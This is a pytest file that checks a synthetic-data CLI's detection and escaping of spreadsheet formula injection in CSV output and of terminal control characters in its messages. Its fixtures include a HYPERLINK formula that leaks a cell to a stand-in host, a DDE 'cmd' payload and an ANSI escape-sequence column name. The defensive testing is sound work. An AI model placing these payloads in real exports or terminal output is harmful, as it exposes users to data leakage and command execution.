"""What the output carries (issue 24, item 2): cells a spreadsheet would execute, and column
names with terminal control characters.

The CSV is written verbatim by default with one warning naming the columns, or with OWASP's
leading ``'`` under ``--csv-escape-formulas`` (numbers never); every line the CLI prints
escapes control characters.
"""

from __future__ import annotations

import json
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from privsyn_core.cli import main
from privsyn_core.release.csv_cells import (
    FormulaCells,
    FormulaScan,
    csv_ready,
    escape_formulas,
    find_formulas,
    is_formula,
)
from privsyn_core.terminal import printable

LINK = '=HYPERLINK("http://example.invalid/?leak="&A1,"see")'
CALC = "=cmd|' /C calc'!A0"
ESC_NAME = "size\x1b[2J\x1b]0;pwned\x07"


@pytest.mark.parametrize(
    "value",
    [LINK, CALC, "+1+cmd|x", "-2+3", "@SUM(A1:A9)", "\tx", "\r=x", "=", "-x", "+"],
)
def test_text_that_a_spreadsheet_runs_is_a_formula(value):
    assert is_formula(value)


@pytest.mark.parametrize(
    "value",
    [
        "-3",
        "+1.5",
        "-1e5",
        "-.5",
        "-inf",
        "+Infinity",
        "-NaN",
        "3-2",
        "a=b",
        "",
        "x@y",
        5,
        -5,
        -1.5,
        None,
        np.nan,
    ],
)
def test_plain_numbers_and_other_text_are_not(value):
    assert not is_formula(value)


def frame() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "note": [LINK, "fine", CALC, "fine", "-4"],
            "balance": [-3, 5, -1, 0, 2],  # numbers: never escaped
            "kind": pd.Categorical(["@x", "a", "a", "@x", "b"]),
            "=SUM(A1)": ["a", "b", "c", "d", "e"],
        }
    )


def test_find_formulas_names_the_columns_and_counts_the_cells():
    found = find_formulas(frame())
    assert found.cells == (("note", 2), ("kind", 2))
    assert found.names == ("=SUM(A1)",)
    text = found.warning(escaped=False)
    assert "4 cells of column(s) 'note', 'kind'" in text
    assert "'=SUM(A1)'" in text and "--csv-escape-formulas" in text
    assert not find_formulas(pd.DataFrame({"a": [-1, 2], "b": ["x", "-5"]}))


def test_escape_prefixes_a_quote_to_formulas_only():
    table = frame()
    escaped = escape_formulas(table)
    assert list(escaped.columns) == ["note", "balance", "kind", "'=SUM(A1)"]
    assert list(escaped["note"]) == ["'" + LINK, "fine", "'" + CALC, "fine", "-4"]
    assert list(escaped["balance"]) == [-3, 5, -1, 0, 2]
    assert list(escaped["kind"]) == ["'@x", "a", "a", "'@x", "b"]
    assert table["note"].iloc[0] == LINK, "the input is not changed"
    assert not find_formulas(escaped)
    clean = pd.DataFrame({"a": [-1, 2]})
    assert escape_formulas(clean) is clean and csv_ready(clean, True)[0] is clean


def test_chunks_merge_into_one_finding():
    first = FormulaCells(("=a",), (("x", 2),))
    second = FormulaCells(("=a",), (("y", 1), ("x", 3)))
    assert first.merged(second) == FormulaCells(("=a",), (("x", 5), ("y", 1)))
    assert not FormulaCells() and FormulaCells().merged(FormulaCells()) == FormulaCells()


def test_a_streamed_writer_gets_one_warning_for_all_its_blocks(capsys):
    scan = FormulaScan(escape=True)
    table = frame()
    blocks = [scan(table.iloc[:2]), scan(table.iloc[2:])]
    assert list(pd.concat(blocks)["note"]) == list(escape_formulas(table)["note"])
    assert scan.found == find_formulas(table)
    scan.report()
    err = capsys.readouterr().err
    assert err.count("privsyn: warning:") == 1 and "4 cells" in err
    quiet = FormulaScan(escape=False)
    quiet(pd.DataFrame({"a": [-1]}))
    quiet.report()
    assert quiet.warning() is None and capsys.readouterr().err == ""


def test_a_hostile_column_name_is_escaped_in_the_warning():
    found = find_formulas(pd.DataFrame({ESC_NAME: ["=1+1"]}))
    assert "\x1b" not in found.warning(escaped=True) and "\\x1b" in found.warning(True)


@pytest.mark.parametrize(
    ("raw", "shown"),
    [
        ("plain name", "plain name"),
        ("größe", "größe"),
        ("a\x1b[31mred", "a\\x1b[31mred"),
        ("x\ry", "x\\ry"),
        ("one\ntwo\tthree", "one\\ntwo\\tthree"),
        ("\x9b2J", "\\x9b2J"),
        ("\u202eevil", "\\u202eevil"),
        ("a\u2028b", "a\\u2028b"),
        ("C:\\data\\x.csv", "C:\\data\\x.csv"),
    ],
)
def test_printable_escapes_control_characters_only(raw, shown):
    assert printable(raw) == shown
    assert printable(printable(raw)) == shown


# --------------------------------------------------------------------------------------------
# through the command line
# --------------------------------------------------------------------------------------------


def hostile_table(n: int = 900, seed: int = 0) -> pd.DataFrame:
    """Frequent formula values (they survive the noise), negative numbers, a hostile name."""
    rng = np.random.default_rng(seed)
    return pd.DataFrame(
        {
            "note": np.array([LINK, CALC, "plain"])[rng.integers(0, 3, n)],
            "delta": np.array([-2, -1, 3])[rng.integers(0, 3, n)],
            ESC_NAME: np.array(["s", "m", "l"])[rng.integers(0, 3, n)],
        }
    )


@pytest.fixture
def table_csv(tmp_path: Path) -> Path:
    path = tmp_path / "hostile.csv"
    hostile_table().to_csv(path, index=False)
    return path


def synthesize(table: Path, out: Path, *extra: str) -> list[str]:
    return [
        "synthesize", str(table), "-o", str(out), "--epsilon", "5", "--iterations", "5",
        "--seed", "1", "--no-registry", *extra,
    ]  # fmt: skip


def test_default_writes_verbatim_and_warns_once(table_csv, tmp_path, capsys):
    out = tmp_path / "out.csv"
    assert main(synthesize(table_csv, out)) == 0
    err = capsys.readouterr().err
    written = pd.read_csv(out, keep_default_na=False)
    assert set(written["note"]) <= {LINK, CALC, "plain"} and LINK in set(written["note"])
    assert (written["delta"] < 0).any(), "negative numbers stay numbers"
    warnings = [line for line in err.splitlines() if "would run them as formulas" in line]
    assert len(warnings) == 1 and "'note'" in warnings[0], err
    assert "'delta'" not in warnings[0]
    assert "\x1b" not in err and "\x07" not in err, "no control character reaches the terminal"


def test_escape_option_quotes_formulas_and_keeps_numbers(table_csv, tmp_path, capsys):
    out = tmp_path / "out.csv"
    assert main(synthesize(table_csv, out, "--csv-escape-formulas")) == 0
    err = capsys.readouterr().err
    written = pd.read_csv(out, keep_default_na=False)
    assert set(written["note"]) <= {"'" + LINK, "'" + CALC, "plain"}
    assert written["delta"].dtype.kind == "i" and (written["delta"] < 0).any()
    assert "written with a leading '" in err and "'note'" in err
    assert not find_formulas(written)


def test_generate_takes_the_option_too(table_csv, tmp_path, capsys):
    bundle = tmp_path / "release.zip"
    assert main(synthesize(table_csv, tmp_path / "a.csv", "--bundle", str(bundle), "-q")) == 0
    capsys.readouterr()
    out = tmp_path / "b.csv"
    assert main(["generate", str(bundle), "-o", str(out), "--csv-escape-formulas", "-q"]) == 0
    assert "'note'" in capsys.readouterr().err
    assert set(pd.read_csv(out, keep_default_na=False)["note"]) <= {"'" + LINK, "'" + CALC, "plain"}


def test_parquet_output_is_data_and_never_escaped(table_csv, tmp_path, capsys):
    out = tmp_path / "out.parquet"
    assert main(synthesize(table_csv, out, "--csv-escape-formulas", "-q")) == 0
    assert LINK in set(pd.read_parquet(out)["note"])
    assert "formula" not in capsys.readouterr().err


def test_an_error_naming_a_hostile_column_reaches_the_terminal_escaped(table_csv, tmp_path, capsys):
    domain = tmp_path / "domain.json"
    domain.write_text(json.dumps({"note": 3, "delta": 3}))  # the hostile column is missing
    status = main(synthesize(table_csv, tmp_path / "o.csv", "--domain", str(domain)))
    err = capsys.readouterr().err
    assert status == 2 and len(err.splitlines()) == 1, err
    assert "\x1b" not in err and "\x07" not in err
    assert "size\\x1b[2J" in err, err
